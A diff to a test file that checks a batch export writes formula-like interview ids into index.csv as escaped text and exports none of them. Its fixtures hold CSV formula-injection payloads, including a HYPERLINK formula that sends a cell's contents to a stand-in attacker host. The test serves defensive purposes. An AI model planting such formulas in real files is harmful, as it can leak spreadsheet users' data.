@@ -124,9 +124,9 @@ describe('the batch against odd ids and a shared folder', () => {
     }
   }, 120_000);
 
-  it('writes formula-like interview ids into index.csv as text, never as formulas', async () => {
+  it('lists formula-like interview ids in index.csv as text, never as formulas, and exports none of them', async () => {
     // The team database takes such ids no more (migration 0014), but keeps the rows written before it: they are read
-    // back here as such a database answers them.
+    // back here as such a database answers them. No file or trail entry is made for an id the app does not take.
     const ids = ['=HYPERLINK("https://evil.example/?"&A1,"open")', '@SUM(1+1)*cmd', '+1+2', '-3+4'];
     const stored = ids.map((_, i) => `formula-${i}`);
     for (const id of stored) await decide(id, '2026-10-03T10:00:00.000Z');
@@ -151,9 +151,10 @@ describe('the batch against odd ids and a shared folder', () => {
     } finally {
       decisions.decidedBetween = decidedBetween;
     }
-    expect(done.state).toBe('done');
+    expect(done).toMatchObject({ state: 'done', done: ids.length, failed: ids.length });
     const rows = indexRows(done.folder);
     expect(rows.map((r) => r[0]).sort()).toEqual(ids.map((id) => `'${id}`).sort());
+    expect(rows.map((r) => r[4])).toEqual(ids.map(() => 'failed'));
     for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
   }, 120_000);
 
